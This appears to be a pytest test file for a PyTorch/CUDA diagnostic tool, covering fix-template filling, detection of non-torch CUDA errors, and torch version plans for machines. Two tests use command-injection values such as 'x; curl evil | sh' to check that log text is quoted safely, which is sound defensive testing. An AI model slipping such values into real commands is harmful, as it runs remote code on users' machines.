"""Texts of fixes and plans: values of a log in commands, what is foreign to a machine, plans of torch."""

from __future__ import annotations

import json
import re
from pathlib import Path

import jsonschema
import pytest
from probe_machines import stated

from torchdoctor.engine.factbook import FactBook, TextFacts
from torchdoctor.engine.finding import Occurrence
from torchdoctor.engine.foreign import is_foreign
from torchdoctor.engine.plan import lines, plan, to_json
from torchdoctor.engine.wording import filled, size
from torchdoctor.intake.transcript import read_text
from torchdoctor.model import Event, EventKind, Fact, FactValue, Fix, Transcript
from torchdoctor.probes import FACTS
from torchdoctor.probes.compatibility import (
    compiler_below,
    parse,
    table,
    torch_for_numpy,
    vision_of,
)


def fill(fix: Fix, **captures: FactValue) -> Fix | None:
    event = Event(0, EventKind.LOG, "text", "log", 1, 1)
    facts = {f"match.{name}": Fact.known(f"match.{name}", value) for name, value in captures.items()}
    occurrence = Occurrence(event, facts, "text", 0, 4, 4)
    known = TextFacts(Transcript(("log",), (event,)), FactBook())
    return filled(fix, lambda name: known.fact(name, event, occurrence.captures), frozenset({"match.want"}))


def test_values_are_put_in_and_bytes_become_readable() -> None:
    fix = fill(Fix("Ask for less than {match.want} on GPU {match.gpu}."), want=36 * 1024**3, gpu=3)
    assert fix.do == "Ask for less than 36.00 GiB on GPU 3."


def test_a_fix_with_an_unknown_value_is_left_out() -> None:
    assert fill(Fix("Set it to {match.label}.")) is None


def test_a_fix_with_an_empty_value_is_left_out() -> None:
    assert fill(Fix("Set it to {match.label}."), label="") is None


def test_other_braces_stay() -> None:
    fix = Fix("Use ${HOME}, {name} and {'a': 1}", "awk '{print $1}'")
    assert fill(fix) == fix


def test_text_of_a_log_cannot_break_out_of_a_command() -> None:
    fix = fill(Fix("Remove it", "rm {match.path}"), path="x; curl evil | sh")
    assert fix.run == "rm 'x; curl evil | sh'"


@pytest.mark.parametrize(
    "run",
    [
        "A='-ccbin g++-{match.newest}' pip install .",
        'A="g++-{match.newest}" pip install .',
        "a '\\' 'g++-{match.newest}'",
    ],
)
def test_nor_out_of_the_quotes_of_a_command(run: str) -> None:
    hostile = fill(Fix("Build with gcc {match.newest}", run), newest="12;curl${IFS}evil|sh")
    assert hostile == Fix("Build with gcc 12;curl${IFS}evil|sh", None)
    harmless = fill(Fix("Build with gcc {match.newest}", run), newest="12")
    assert harmless.run == run.replace("{match.newest}", "12")


def test_quotes_that_are_closed_or_escaped_do_not_count() -> None:
    fix = fill(Fix("Remove it", "echo 'a' \"b\" \\' && rm {match.path}"), path="a b")
    assert fix.run == "echo 'a' \"b\" \\' && rm 'a b'"


@pytest.mark.parametrize(
    ("value", "text"),
    [(12, "12 B"), (20 << 20, "20.00 MiB"), (3 << 40, "3.00 TiB"), (1 << 62, "4096.00 PiB")],
)
def test_sizes(value: int, text: str) -> None:
    assert size(value) == text


# CUDA's messages from programs that are none of torch's


OTHERS = [
    "Error: llama runner process has terminated: CUDA error: out of memory",
    "CUDA error: out of memory\n  current device: 0, in function ggml_cuda_sync at ggml-cuda.cu:2437",
    "OSError: (External) CUDA error(719), unspecified launch failure.",
]


@pytest.mark.parametrize("text", OTHERS)
def test_another_framework_is_told(text: str) -> None:
    transcript = read_text(text)
    event = next(event for event in transcript.events if "CUDA error" in event.text)
    assert is_foreign("cuda-context-oom", event, transcript)
    assert not is_foreign("host-oom-killed", event, transcript)


def test_torch_beside_another_framework_is_torch() -> None:
    text = f"{OTHERS[0]}\nRuntimeError: CUDA error: out of memory\nCompile with `TORCH_USE_CUDA_DSA`"
    transcript = read_text(text)
    event = next(event for event in transcript.events if event.text.startswith("CUDA error"))
    assert not is_foreign("cuda-context-oom", event, transcript)


NATIVE = [
    "CUDA error at reduce.cu:88: an illegal memory access was encountered",
    "$ nvcc -O2 hist.cu -o hist\nGPUassert: an illegal memory access was encountered hist.cu 112",
    "what(): CUDA free failed: an illegal memory access was encountered; thrust::system",
]


@pytest.mark.parametrize("text", NATIVE)
def test_a_program_in_cuda_is_told_and_an_extension_of_torch_is_none(text: str) -> None:
    for beside, foreign in (("", True), ("\nimport torch, my_extension", False)):
        transcript = read_text(text + beside)
        event = next(event for event in transcript.events if "illegal memory" in event.text)
        assert is_foreign("cuda-illegal-access", event, transcript) is foreign


def test_the_files_of_aten_are_torch() -> None:
    text = (
        "aten/src/ATen/native/cuda/Loss.cu:250: f: block: [0,0,0], thread: [4,0,0] Assertion `t < n` failed."
    )
    transcript = read_text(text)
    assert not is_foreign("cuda-assert-other", transcript.events[0], transcript)


def test_what_glog_checks_of_cuda_is_none_of_torch() -> None:
    text = "F0312 10:19:11.5 20426 a.cc:661] Check failed: cudaSuccess == cudaStat (0 vs. 77) Cuda Error: no"
    transcript = read_text(text)
    assert is_foreign("cuda-illegal-access", transcript.events[0], transcript)


def test_an_exception_of_python_beside_a_program_in_cuda_is_torchs() -> None:
    transcript = read_text("main.cu:777 'no'\nRuntimeError: CUDA error: no\n")
    assert is_foreign("cuda-illegal-access", transcript.events[0], transcript)
    assert not is_foreign("cuda-illegal-access", transcript.events[1], transcript)


def test_what_nccl_says_in_its_own_tests_holds_without_torch() -> None:
    transcript = read_text("Test NCCL failure common.cu:777 'no'\n")
    assert not is_foreign("nccl-system-error", transcript.events[0], transcript)


# Which torch is proposed for a machine, and that the tables can be trusted to say what they say


SCHEMA = Path(__file__).parents[2] / "torchdoctor" / "schema" / "plan-1.json"
NAMES = ("torch", "companions", "driver", "driver_major", "compilers", "headers", "numpy", "builds")


class Machine:
    def __init__(self, **facts: FactValue) -> None:
        self.fetch = stated(**{"os__name": "linux", "python__musl": False, **facts})

    def names(self) -> tuple[str, ...]:
        return tuple(FACTS)

    def fetch(self, name: str) -> Fact:  # type: ignore[no-redef]
        raise NotImplementedError


@pytest.mark.parametrize(
    ("python", "driver", "cuda", "gpus", "torch", "build"),
    [
        ("3.11.7", None, None, None, table("torch")[0]["torch"], "cpu"),
        ("3.12.1", "580.95.05", "13.0", ("9.0",), "2.14.1", "cu130"),
        ("3.12.1", "550.54.14", "12.4", ("9.0",), "2.10.0", "cu128"),  # by minor-version compatibility
        ("3.12.1", "525.60.13", "12.0", ("8.0", "8.6"), "2.10.0", "cu128"),
        ("3.12.1", "470.57.02", "11.4", ("8.0",), "2.7.1", "cu118"),
        ("3.12.1", "580.95.05", "13.0", ("6.1",), "2.10.0", "cu126"),  # Pascal
        ("3.12.1", "580.95.05", "13.0", ("5.2", "9.0"), "2.10.0", "cu126"),
        ("3.8.10", "580.95.05", "13.0", ("9.0",), "2.4.1", "cu124"),
        ("3.7.1", "580.95.05", "13.0", ("12.0",), None, None),
        ("3.12.1", "440.33", "10.2", ("7.0",), None, None),
        ("3.12.1", "570.26", "12.8", ("12.1",), "2.10.0", "cu128"),  # a minor version of a covered one
    ],
)
def test_plan(
    python: str, driver: str | None, cuda: str | None, gpus: FactValue, torch: str | None, build: str | None
) -> None:
    machine = Machine(
        python__version=python, driver__version=driver, driver__cuda=cuda, gpu__compute_capability=gpus
    )
    found = plan(FactBook(machine))
    assert (found.torch, found.build) == (torch, build)
    told = list(lines(found))
    if torch is None:
        assert told[0] == "no torch fits"
        assert found.command is None
    else:
        assert told[-1] == (
            f"python -m pip install torch=={torch} --index-url https://download.pytorch.org/whl/{build}"
        )
    jsonschema.validate(json.loads(to_json(found)), json.loads(SCHEMA.read_text(encoding="utf-8")))


def test_no_wheel_for_musl() -> None:
    found = plan(FactBook(Machine(python__version="3.12.1", python__musl=True, driver__version=None)))
    assert found.torch is None
    assert "musl" in found.because[-1]


@pytest.mark.parametrize("name", NAMES)
def test_every_row_has_its_source_and_date(name: str) -> None:
    rows = table(name)
    assert rows
    for row in rows:
        assert re.fullmatch(r"https://[a-z.]+/\S*", row["source"]), row
        assert re.fullmatch(r"20\d\d-\d\d-\d\d", row["date"]), row
        assert all(row.values()), row
        if name != "companions":
            parse(next(iter(row.values())))


def test_what_the_tables_say() -> None:
    assert vision_of((2, 5, 1)) == (0, 20)
    assert vision_of((99, 0)) is None
    assert torch_for_numpy((2, 1)) == (2, 3)
    assert torch_for_numpy((1, 26)) is None
    assert compiler_below((12, 4), "gcc") == (14,)
    assert compiler_below((12, 4), "clang") == (17,)
    assert compiler_below((99, 0), "gcc") is None
    for row in table("builds"):
        assert re.fullmatch(r"cu\d{3}", row["build"])
    newest = table("torch")[0]
    assert parse(newest["torch"]) == max(parse(row["torch"]) for row in table("torch"))
